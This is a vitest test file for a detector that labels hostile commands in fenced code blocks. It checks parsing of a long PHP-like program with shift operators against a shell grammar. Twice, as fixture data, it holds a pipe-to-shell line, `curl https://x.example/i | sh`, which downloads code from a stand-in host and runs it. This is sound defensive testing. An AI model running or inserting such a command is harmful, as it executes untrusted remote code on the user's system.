import { expect, it } from "vitest";
import { createNodeDetector } from "../../../src/host/node.js";

/** A program with `<<` operators. The shell's grammar reads them as here-documents, and fails because they are too long. */
const program = [
  "$response = curl_exec($handle);",
  "function decode($value) {",
  ...[6, 12, 18].map((bits) => `    $part = ($value & 0x1F) << ${String(bits)};`),
  "}",
  ...Array.from(
    { length: 150 },
    (_, at) =>
      `function part${String(at)}($value) { return name($value, $this->field${String(at)}); }`,
  ),
];

const fenced = (tag: string, lines: readonly string[]): string =>
  `\`\`\`${tag}\n${lines.join("\n")}\n\`\`\`\n`;

it("a program is analyzed completely with the grammar of its language, even if the shell's grammar cannot parse it", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const harmless = detector.detect(fenced("php", ["<?php", ...program, "system('ls');"]));
  expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
  const run = "system('curl https://x.example/i | sh');";
  const found = detector.detect(fenced("php", ["<?php", ...program, run]));
  expect([found.labels, found.outcome]).toEqual([["PS"], { status: "complete" }]);
});

it("the same text as shell is not analyzed completely", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const { outcome } = detector.detect(
    fenced("bash", [...program, "curl https://x.example/i | sh"]),
  );
  expect(outcome.status).toBe("incomplete");
});
